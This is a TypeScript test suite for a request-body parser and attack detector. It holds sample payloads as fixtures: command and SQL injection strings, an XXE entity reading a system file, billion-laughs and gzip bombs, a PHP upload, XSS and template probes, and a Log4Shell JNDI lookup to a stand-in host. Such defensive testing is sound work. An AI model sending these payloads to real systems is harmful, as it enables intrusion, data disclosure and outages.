/**
 * Expected points for each body type. Fixtures are written here by hand.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import type { Header, HttpRequest, Point } from "../../../model/index.js";
import { charMask } from "../../detectors/charmask.js";
import { BUILTIN_DETECTORS } from "../../detectors/index.js";
import { Engine } from "../../engine.js";
import { extractPoints } from "../index.js";

function post(contentType: string | null, body: string | Uint8Array, extra: Header[] = []): HttpRequest {
  const headers: Header[] = contentType === null ? [...extra] : [["Content-Type", contentType], ...extra];
  return { method: "POST", target: "/submit", headers, body };
}

/** `name [kind] = value` lines of the body points, in order. */
function bodyPoints(req: HttpRequest): string[] {
  return extractPoints(req)
    .points.filter((p) => p.zone === "body")
    .map((p: Point) => `${p.steps.join(" › ")} [${p.kind}] = ${p.value}`);
}

function codes(req: HttpRequest): string[] {
  return extractPoints(req).anomalies.map((a) => a.code);
}

describe("form bodies", () => {
  it("emits keys and values, repeats kept; clean pairs add no whole-string point", () => {
    assert.deepEqual(bodyPoints(post("application/x-www-form-urlencoded", "a=1&b=x+y%21&a=2")), [
      "body › form › a › #key [key] = a",
      "body › form › a [value] = 1",
      "body › form › b › #key [key] = b",
      "body › form › b [value] = x y!",
      "body › form › a › #key [key] = a",
      "body › form › a [value] = 2",
    ]);
  });

  it("adds the whole decoded string when an unencoded & may have cut a payload", () => {
    for (const body of ["ip=1&cat+/etc/passwd", "q=1'&&sleep(5)", "a=1&b=2&", "a=1&;id=2"]) {
      const pts = bodyPoints(post("application/x-www-form-urlencoded", body));
      assert.ok(
        pts.some((p) => p.startsWith("body › form › #raw [raw] = ")),
        `${body}: ${pts.join(" | ")}`,
      );
    }
  });
});

describe("JSON bodies", () => {
  it("emits keys and scalars along their path, arrays by index", () => {
    assert.deepEqual(
      bodyPoints(post("application/json", '{"user":{"name":"ann","tags":["a",2,true,null]}}')),
      [
        "body › json › user › #key [key] = user",
        "body › json › user › name › #key [key] = name",
        "body › json › user › name [value] = ann",
        "body › json › user › tags › #key [key] = tags",
        "body › json › user › tags › 0 [value] = a",
        "body › json › user › tags › 1 [value] = 2",
        "body › json › user › tags › 2 [value] = true",
      ],
    );
  });

  it("keeps duplicate keys (a parser differential) and decodes escapes", () => {
    const pts = bodyPoints(post("application/json", '{"role":"user","role":"\\u0061dmin\\n"}'));
    assert.deepEqual(
      pts.filter((p) => p.startsWith("body › json › role [")),
      ["body › json › role [value] = user", "body › json › role [value] = admin\n"],
    );
    assert.deepEqual(codes(post("application/json", '{"role":"user","role":"admin"}')), []);
  });

  it("reports broken JSON, still emits what it read, and the whole body", () => {
    const req = post("application/json", '{"a": \'x\', b: 1, "c": "unterminated');
    const pts = bodyPoints(req);
    assert.ok(pts.includes("body › json › a [value] = x"));
    assert.ok(pts.includes("body › json › b [value] = 1"));
    assert.ok(pts.includes("body › json › c [value] = unterminated"));
    assert.ok(pts.some((p) => p.startsWith("body [raw] = {")));
    assert.ok(codes(req).includes("bad_json"));
  });

  it("reads newline-delimited JSON", () => {
    const req = post("application/x-ndjson", '{"a":"1"}\n{"a":"2"}\n');
    assert.deepEqual(
      bodyPoints(req).filter((p) => !p.includes("#key")),
      ["body › json › a [value] = 1", "body › json › a [value] = 2"],
    );
    assert.deepEqual(codes(req), []);
  });

  it("stops following nesting past maxNesting but keeps reading after it", () => {
    const deep = `{"x":${"[".repeat(100)}"deep"${"]".repeat(100)},"after":"yes"}`;
    const req = post("application/json", deep);
    assert.ok(bodyPoints(req).includes("body › json › after [value] = yes"));
    assert.ok(!bodyPoints(req).some((p) => p.endsWith("= deep")));
    assert.ok(codes(req).includes("nesting_limit"));
  });
});

describe("JSON number and boolean literals", () => {
  /** RFC 8259 §6: `-? int frac? exp?`. */
  const digits = (min: number) => fc.stringMatching(new RegExp(`^[0-9]{${min},24}$`));
  const jsonNumber = fc
    .tuple(
      fc.boolean(),
      fc.oneof(
        fc.constant("0"),
        fc.tuple(fc.integer({ min: 1, max: 9 }), digits(0)).map(([a, b]) => `${a}${b}`),
      ),
      fc.option(digits(1)),
      fc.option(fc.tuple(fc.constantFrom("e", "E"), fc.constantFrom("", "+", "-"), digits(1))),
    )
    .map(
      ([neg, int, frac, exp]) =>
        `${neg ? "-" : ""}${int}${frac === null ? "" : `.${frac}`}${exp === null ? "" : exp.join("")}`,
    );
  const literal = fc.oneof(jsonNumber, fc.constantFrom("true", "false"));
  /** Names that make some detectors look harder (file-ish, URL-ish, query-ish). */
  const NAMES = [
    "id",
    "file",
    "path",
    "url",
    "redirect",
    "cmd",
    "query",
    "q",
    "page",
    "template",
    "$where",
    "x",
  ];

  it("are marked wellFormed (skipped by point detectors); strings are not", () => {
    const points = extractPoints(
      post("application/json", '{"a":12.5e-3,"b":[true,false,-0],"c":"7","d":null}'),
    )
      .points.filter((p) => p.zone === "body" && p.kind === "value")
      .map((p) => `${p.steps.join(" › ")} = ${p.value}${p.wellFormed === true ? " (literal)" : ""}`);
    assert.deepEqual(points, [
      "body › json › a = 12.5e-3 (literal)",
      "body › json › b › 0 = true (literal)",
      "body › json › b › 1 = false (literal)",
      "body › json › b › 2 = -0 (literal)",
      "body › json › c = 7",
    ]);
  });

  it("are flagged by no detector, whatever the member name (why skipping them is safe)", () => {
    fc.assert(
      fc.property(
        literal,
        fc.constantFrom(...NAMES),
        fc.integer({ min: 0, max: 2 }),
        (value, name, depth) => {
          const p: Point = { steps: ["body", "json", name], zone: "body", kind: "value", value, depth, name };
          for (const d of BUILTIN_DETECTORS) {
            if (!d.prefilter(value, charMask(value))) continue;
            assert.equal(d.detect(p), null, `${d.type} flagged ${value}`);
          }
        },
      ),
      { numRuns: 3000 },
    );
  });
});

describe("XML and SOAP bodies", () => {
  const soap =
    '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">' +
    '<soap:Body><m:Login xmlns:m="urn:acct" lang="en"><m:user>bob &amp; &lt;al&gt;</m:user>' +
    "<pass><![CDATA[p<w>d]]></pass><!-- hint --></m:Login></soap:Body></soap:Envelope>";

  it("emits elements, attributes, text, CDATA, comments and PIs under the envelope path", () => {
    assert.deepEqual(bodyPoints(post("application/soap+xml", soap)), [
      'body › xml › #pi [markup] = <?xml version="1.0"?>',
      "body › xml › Envelope › #key [key] = soap:Envelope",
      "body › xml › Envelope › Body › #key [key] = soap:Body",
      "body › xml › Envelope › Body › Login › #key [key] = m:Login",
      "body › xml › Envelope › Body › Login › @lang › #key [key] = lang",
      "body › xml › Envelope › Body › Login › @lang [value] = en",
      "body › xml › Envelope › Body › Login › user › #key [key] = m:user",
      "body › xml › Envelope › Body › Login › user [value] = bob & <al>",
      "body › xml › Envelope › Body › Login › pass › #key [key] = pass",
      "body › xml › Envelope › Body › Login › pass [value] = p<w>d",
      "body › xml › Envelope › Body › Login › #comment [markup] =  hint ",
    ]);
    assert.deepEqual(codes(post("text/xml", soap)), []);
  });

  it("emits the DOCTYPE and entity declarations as markup and never expands them", () => {
    const xxe = '<!DOCTYPE r [<!ENTITY ext SYSTEM "file:///etc/hostname">]><r>&ext;</r>';
    const pts = bodyPoints(post("application/xml", xxe));
    assert.ok(
      pts.includes(
        'body › xml › #doctype › entity › ext [markup] = <!ENTITY ext SYSTEM "file:///etc/hostname">',
      ),
    );
    assert.ok(pts.includes("body › xml › #doctype › entity › ext › system [value] = file:///etc/hostname"));
    assert.ok(pts.includes("body › xml › r [value] = &ext;"));
    assert.ok(pts.some((p) => p.startsWith("body › xml › #doctype [markup] = <!DOCTYPE r [")));
    assert.deepEqual(codes(post("application/xml", xxe)), ["xml_dtd"]);
  });

  it("turns a billion-laughs DTD into a data_bomb hit", () => {
    const decls = ['<!ENTITY a0 "ha">'];
    for (let i = 1; i <= 8; i++) decls.push(`<!ENTITY a${i} "${`&a${i - 1};`.repeat(8)}">`);
    const bomb = `<?xml version="1.0"?><!DOCTYPE b [${decls.join("")}]><b>&a8;</b>`;
    const req = post("text/xml", bomb);
    assert.ok(codes(req).includes("xml_dtd_bomb"));
    const hits = new Engine({ detectors: [] }).analyze(req).hits;
    assert.ok(hits.some((h) => h.type === "data_bomb" && h.signature === "data_bomb.xml_dtd_bomb"));
  });

  it("flags a recursive entity and a quadratic blowup", () => {
    const rec = '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>';
    assert.ok(codes(post("text/xml", rec)).includes("xml_dtd_bomb"));
    const big = "x".repeat(5000);
    const quad = `<!DOCTYPE r [<!ENTITY big "${big}">]><r>${"&big;".repeat(100)}</r>`;
    assert.ok(codes(post("text/xml", quad)).includes("xml_dtd_bomb"));
    const small = '<!DOCTYPE r [<!ENTITY c "(c)">]><r>&c; &c;</r>';
    assert.ok(!codes(post("text/xml", small)).includes("xml_dtd_bomb"));
  });

  it("reports broken XML and keeps the whole body", () => {
    const req = post("text/xml", "<a><b>text</a>");
    assert.ok(codes(req).includes("bad_xml"));
    assert.ok(bodyPoints(req).includes("body [raw] = <a><b>text</a>"));
  });
});

describe("multipart bodies", () => {
  const body = [
    "--XyZ",
    'Content-Disposition: form-data; name="avatar"; filename="me.jpg"; filename*=UTF-8\'\'sh%E2%82%ACll.php',
    "Content-Type: image/jpeg",
    "",
    "<?php echo 1; ?>",
    "--XyZ",
    'Content-Disposition: form-data; name="meta"',
    "Content-Type: application/json",
    "",
    '{"k":"v"}',
    "--XyZ",
    'Content-Disposition: form-data; name="note"',
    "",
    "hello",
    "--XyZ--",
    "",
  ].join("\r\n");

  it("emits field names, file names (RFC 5987 too), part headers and content by part type", () => {
    assert.deepEqual(bodyPoints(post('multipart/form-data; boundary="XyZ"', body)), [
      "body › multipart › avatar › #key [key] = avatar",
      "body › multipart › avatar › filename [filename] = me.jpg",
      "body › multipart › avatar › filename [filename] = sh€ll.php",
      "body › multipart › avatar › header › content-type [value] = image/jpeg",
      "body › multipart › avatar [raw] = <?php echo 1; ?>",
      "body › multipart › avatar › xml › #pi [markup] = <?php echo 1; ?>",
      "body › multipart › meta › #key [key] = meta",
      "body › multipart › meta › header › content-type [value] = application/json",
      "body › multipart › meta › json › k › #key [key] = k",
      "body › multipart › meta › json › k [value] = v",
      "body › multipart › note › #key [key] = note",
      "body › multipart › note [value] = hello",
    ]);
    assert.deepEqual(codes(post("multipart/form-data; boundary=XyZ", body)), []);
  });

  it("sniffs the boundary when the Content-Type lacks it or is missing", () => {
    const lf = '--b0undary\nContent-Disposition: form-data; name="q"\n\n1 OR 1=1\n--b0undary--\n';
    for (const ct of ["multipart/form-data", null]) {
      assert.deepEqual(bodyPoints(post(ct, lf)), [
        "body › multipart › q › #key [key] = q",
        "body › multipart › q [value] = 1 OR 1=1",
      ]);
    }
  });

  it("reports a missing close delimiter and keeps the whole body", () => {
    const req = post(
      "multipart/form-data; boundary=zz",
      '--zz\r\nContent-Disposition: form-data; name="a"\r\n\r\nx',
    );
    assert.ok(codes(req).includes("bad_multipart"));
    assert.ok(bodyPoints(req).includes("body › multipart › a [value] = x"));
  });

  it("recurses into a nested multipart/mixed part", () => {
    const inner = '--in\r\nContent-Disposition: file; filename="a.txt"\r\n\r\nA\r\n--in--';
    const outer = `--out\r\nContent-Disposition: form-data; name="files"\r\nContent-Type: multipart/mixed; boundary=in\r\n\r\n${inner}\r\n--out--`;
    const pts = bodyPoints(post("multipart/form-data; boundary=out", outer));
    assert.ok(pts.includes("body › multipart › files › multipart › #unnamed › filename [filename] = a.txt"));
  });

  it("bounds the number of parts", () => {
    const parts = Array.from(
      { length: 600 },
      (_, i) => `--p\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\nv`,
    );
    const req = post("multipart/form-data; boundary=p", `${parts.join("\r\n")}\r\n--p--`);
    assert.ok(codes(req).includes("parts_limit"));
  });
});

describe("GraphQL", () => {
  it("reads a JSON POST {query, variables, operationName}", () => {
    const q =
      'mutation Login($u: String = "guest") { login(user: "bob", pass: "x\'--") { token me { id } } }';
    const pts = bodyPoints(
      post("application/json", JSON.stringify({ query: q, variables: { u: "ann" }, operationName: "Login" })),
    );
    for (const want of [
      "body › json › query › graphql › operation [key] = mutation",
      "body › json › query › graphql › operation › name [key] = Login",
      "body › json › query › graphql › u [value] = guest",
      "body › json › query › graphql › login › #key [key] = login",
      "body › json › query › graphql › login › user [value] = bob",
      "body › json › query › graphql › login › pass [value] = x'--",
      "body › json › query › graphql › login › me › id › #key [key] = id",
      "body › json › variables › u [value] = ann",
      "body › json › operationName [value] = Login",
    ]) {
      assert.ok(pts.includes(want), want);
    }
  });

  it("reads application/graphql bodies, block strings included", () => {
    const pts = bodyPoints(post("application/graphql", 'query { search(text: """a "b" <c>""") { id } }'));
    assert.ok(pts.includes('body › graphql › search › text [value] = a "b" <c>'));
    assert.ok(pts.includes('body [raw] = query { search(text: """a "b" <c>""") { id } }'));
  });

  it("reads a bare document as the query string or a form-encoded body", () => {
    const bare = extractPoints({
      method: "GET",
      target: "/?__schema{types{name}}",
      headers: [],
      body: "",
    }).points.map((p) => p.steps.join(" › "));
    assert.ok(bare.includes("query › graphql › __schema › types › name › #key"));
    const form = post(
      "application/x-www-form-urlencoded",
      "fragment+F+on+__Type+{+fields(includeDeprecated%3A+true)+{+name+}+}",
    );
    assert.ok(bodyPoints(form).includes("body › graphql › fields › includeDeprecated [value] = true"));
    assert.ok(codes(form).includes("content_type_mismatch"));
  });

  it("reads ?query= and ?variables= on GET", () => {
    const q = encodeURIComponent('{ user(id: "7") @include(if: true) { name } }');
    const v = encodeURIComponent('{"id":"8"}');
    const names = extractPoints({
      method: "GET",
      target: `/graphql?query=${q}&variables=${v}`,
      headers: [],
      body: "",
    }).points.map((p) => `${p.steps.join(" › ")} = ${p.value}`);
    assert.ok(names.includes("query › query › graphql › user › id = 7"));
    assert.ok(names.includes("query › query › graphql › user › name › #key = name"));
    assert.ok(names.includes("query › variables › json › id = 8"));
  });
});

describe("plain text, content coding and charsets", () => {
  it("emits text as one raw value", () => {
    assert.deepEqual(bodyPoints(post("text/plain", "just words")), ["body [raw] = just words"]);
  });

  it("undoes Content-Encoding gzip on byte bodies", () => {
    const req = post("application/json", new Uint8Array(gzipSync('{"a":"b"}')), [
      ["Content-Encoding", "gzip"],
    ]);
    assert.deepEqual(bodyPoints(req), ["body › json › a › #key [key] = a", "body › json › a [value] = b"]);
  });

  it("reports a decompression bomb as data_bomb, not an outage", () => {
    const bomb = new Uint8Array(gzipSync(Buffer.alloc(20 * 1024 * 1024)));
    const req = post("text/plain", bomb, [["Content-Encoding", "gzip"]]);
    assert.ok(codes(req).includes("decompression_limit"));
    const hits = new Engine({ detectors: [] }).analyze(req).hits;
    assert.ok(hits.some((h) => h.type === "data_bomb"));
  });

  it("decodes UTF-16 bodies (BOM or interleaved NULs)", () => {
    const le = new Uint8Array(Buffer.from('\ufeff{"a":"<b>"}', "utf16le"));
    assert.ok(bodyPoints(post("application/json", le)).includes("body › json › a [value] = <b>"));
    const bare = new Uint8Array(Buffer.from("x=<svg>", "utf16le"));
    assert.ok(bodyPoints(post(null, bare)).includes("body › form › x [value] = <svg>"));
  });

  it("normalises overlong UTF-8 in byte bodies and flags it", () => {
    const bytes = new Uint8Array([0x61, 0x3d, 0xc0, 0xbc, 0x62]); // a=<overlong "<">b
    const req = post("application/x-www-form-urlencoded", bytes);
    assert.ok(bodyPoints(req).includes("body › form › a [value] = <b"));
    assert.ok(codes(req).includes("overlong_utf8"));
  });

  it("parses by what the body is when the Content-Type lies", () => {
    const req = post("application/x-www-form-urlencoded", '{"a":"b"}');
    assert.ok(bodyPoints(req).includes("body › json › a [value] = b"));
    assert.ok(codes(req).includes("content_type_mismatch"));
    assert.ok(bodyPoints(post(null, "<r><x>1</x></r>")).includes("body › xml › r › x [value] = 1"));
  });
});

describe("binary bodies", () => {
  // Deterministic noise with every byte value, and text-looking runs inside.
  const noise = (n: number) => {
    const b = Buffer.alloc(n);
    let x = 12345;
    for (let i = 0; i < n; i++) {
      x = (x * 1103515245 + 12345) >>> 0;
      b[i] = x >>> 24;
    }
    return b;
  };

  it("are one binary raw point, never sniffed as a form, JSON or text to decode", () => {
    const bin = Buffer.concat([noise(3000), Buffer.from("a=%2e%2e%2f&{{7*7}}\r\nX: y"), noise(3000)]);
    for (const ct of [undefined, "application/octet-stream", "application/json"]) {
      const headers: Header[] = ct === undefined ? [] : [["Content-Type", ct]];
      const { points, anomalies } = extractPoints({
        method: "POST",
        target: "/",
        headers,
        body: new Uint8Array(bin),
      });
      const body = points.filter((p) => p.zone === "body");
      assert.equal(body.length, 1, ct);
      assert.equal(body[0]!.binary, true);
      assert.equal(body[0]!.kind, "raw");
      assert.equal(
        anomalies.some((a) => a.code === "content_type_mismatch"),
        ct === "application/json",
      );
    }
  });

  it("reach only the detectors that read binary, which still find sprayed signs", () => {
    const engine = new Engine();
    const types = (tail: string) =>
      engine
        .analyze({
          method: "PUT",
          target: "/blob",
          headers: [],
          body: new Uint8Array(Buffer.concat([noise(4000), Buffer.from(tail), noise(4000)])),
        })
        .hits.map((h) => h.type);
    assert.deepEqual(types("{{7*7}} <script>alert(1)</script>"), []);
    assert.ok(types("${jndi:ldap://x.example/a}").includes("rce"));
  });
});
